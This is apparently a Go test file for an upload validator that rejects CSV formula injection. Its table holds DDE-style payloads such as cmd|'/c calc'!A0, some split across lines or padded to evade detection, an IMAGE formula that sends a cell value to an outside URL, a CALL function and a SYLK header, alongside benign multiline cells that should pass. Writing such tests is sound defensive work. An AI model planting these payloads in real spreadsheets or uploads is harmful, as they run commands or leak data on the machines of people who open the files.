package upload

import (
	"strings"
	"testing"
)

func TestFormulasOfSeveralLinesAreOne(t *testing.T) {
	t.Parallel()
	verdicts{
		{"a line's end behind the sign", "a\n\"=\ncmd|'/c calc'!A0\"\n", false},
		{"a line's end before it", "a\n\"\n\t=cmd|'/c calc'!A0\"\n", false},
		{"a line's end in a sum", "a\n\"+1+\r\ncmd|'/c calc'!A0\"\n", false},
		{"a comma in parentheses", "a\n=IF(1,cmd|'/c calc'!A0,1)\n", false},
		{"far into a formula", "a\n=" + strings.Repeat("1+", 300) + "cmd|'/c calc'!A0\n", false},
		{"a bar far before", "a\n=cmd|" + strings.Repeat("1", 500) + "!A0\n", false},
		{"a picture", "a\n=IMAGE(\"http://x/\"&A1)\n", false},
		{"a function of a library", "a\n=1+CALL(\"a\",\"b\")\n", false},
		{"a sum over two lines", "a\n\"=SUM(A1,\n A2)\"\n", true},
		{"a list in a cell", "a\n\"- one\n- two\n- three | four\"\n", true},
		{"words", "a\n- call (555) 123\n- image(s)\n", true},
		{"quotes that are not closed", "a,b\n\"x,1\n2,3\n", true},
		{"quotes that are not closed, then a formula", "a,b\n\"x,1\n2,=cmd|'x'!A0\n", false},
		{"cells of SYLK", "ID;PSCALC3\nC;X1;Y1;K0\n", false},
		{"a column ID and one Price", "ID;Price\nC;5\n", true},
	}.check(t, "a.csv")
}
